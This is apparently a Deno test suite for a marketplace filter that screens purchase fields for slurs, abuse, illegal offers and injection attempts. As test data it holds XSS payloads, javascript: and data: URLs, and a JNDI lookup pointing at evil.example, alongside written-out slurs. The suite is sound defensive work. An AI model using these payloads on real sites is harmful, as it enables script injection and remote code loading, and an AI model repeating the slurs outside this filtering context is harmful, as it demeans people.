import { assertEquals } from "@std/assert";
import { screen } from "../../domain/review/screen.ts";
import { purchase } from "./support.ts";

const TOWNS_AND_DISHES = [
  "Scunthorpe United scarf",
  "Shiitake mushrooms 500 g",
  "Charles Dickens, complete works",
  "Cockburn's Special Reserve port",
  "Essex and Middlesex walks",
  "Penistone paramount tickets",
  "Classic cocktail shaker, assorted",
  "Hancock & Sussex hitchhiker map",
  "Niger river expedition, snigger edition",
  "Pinot Negro, Montenegro",
  "Kike Hernández jersey",
  "Fire retardant spray",
  "Van Dyke brown",
  "Grapefruit, grape and rapeseed oil",
  "Faggots in West Country sauce",
  "Matsushita radio",
  "JavaScript: The Good Parts",
  "Big Data: A Revolution",
  "C++ & <algorithm> handbook",
  "React <Suspense> & <Activity> workshop",
  "Tables for $50 & <3 cushions",
  "DATA: cable, 2 m",
];

for (const productName of TOWNS_AND_DISHES) {
  Deno.test(`the screen passes ${productName}`, () => {
    const category = productName.startsWith("Faggots") ? "groceries" : "other";
    assertEquals(screen(purchase({ productName, category })), []);
  });
}

const TITLES = [
  "The Subtle Art of Not Giving a F*ck",
  "Go the Fuck to Sleep",
  "Bitch Planet, volume 1",
  "The Ethical Slut",
  "Cunt: A Declaration of Independence",
  "Sh*t My Dad Says",
  "Unfuck Your Brain",
];

for (const productName of TITLES) {
  Deno.test(`the screen passes the book ${productName}`, () => {
    assertEquals(screen(purchase({ productName, category: "books" })), []);
  });
}

Deno.test("the screen leaves a single rude word to the review", () => {
  assertEquals(screen(purchase({ productName: "Fuck Cancer T-shirt" })), []);
});

const REFUSED: [text: string, reason: string][] = [
  ["n1gg3r tee", "slur"],
  ["n*gger mug", "slur"],
  ["n i g g e r jokes", "slur"],
  ["die you f@ggot", "slur"],
  ["blowjob video", "explicit term"],
  ["h4ndj0b lessons", "explicit term"],
  ["f u c k off", "abuse"],
  ["you stupid cunt", "abuse"],
  ["sh1t fucking seller", "abuse"],
  ["fuck you and your shop", "abuse"],
  ["<script>alert(1)</script>", "markup in a text"],
  ["<scr\u200bipt src=//evil.example>", "markup in a text"],
  ["<img src=x onerror=alert(1)>", "markup in a text"],
  ['"><svg onload=alert(1)>', "markup in a text"],
  ["<iframe src=//evil.example>", "markup in a text"],
  ["javascript:alert(1)", "script address in a text"],
  ["java\nscript:alert(1)", "script address in a text"],
  ["see data:text/html;base64,PHNjcmlwdD4=", "data address in a text"],
  ["${jndi:ldap://evil.example/a}", "template code in a text"],
];

const NAMES = ["productName", "sellerName", "variant"];
const FIELDS = [
  ...NAMES,
  "buyerDisplayName",
  "sourcePlatform",
  "categoryLabel",
  "submitterName",
  "submitterRef",
];

for (const [text, reason] of REFUSED) {
  Deno.test(`the screen refuses ${JSON.stringify(text)} in any field`, () => {
    for (const field of FIELDS) {
      assertEquals(screen(purchase({ [field]: text })), [reason], field);
    }
  });
}

const OFFERS: [one: string, other: string, reason: string][] = [
  ["cocaine", "gram", "hard drugs on offer"],
  ["untraceable", "glock", "weapons outside the law"],
  ["hentai", "babies", "sexual content with minors"],
];

for (const [one, other, reason] of OFFERS) {
  Deno.test(`the screen refuses ${reason} in every name, by words at most three apart`, () => {
    for (const field of FIELDS) {
      for (const apart of [1, 2, 3, 4]) {
        const between = " " + "blue ".repeat(apart - 1);
        const expected = NAMES.includes(field) && apart <= 3 ? [reason] : [];
        for (const text of [one + between + other, other + between + one]) {
          assertEquals(screen(purchase({ [field]: text })), expected, text);
        }
      }
    }
  });
}

Deno.test("the screen refuses image addresses that are not on the web", () => {
  for (const imageUrl of ["javascript:alert(1)", "data:image/png;base64,AA"]) {
    assertEquals(screen(purchase({ imageUrl })), ["URL is not http or https"]);
  }
});
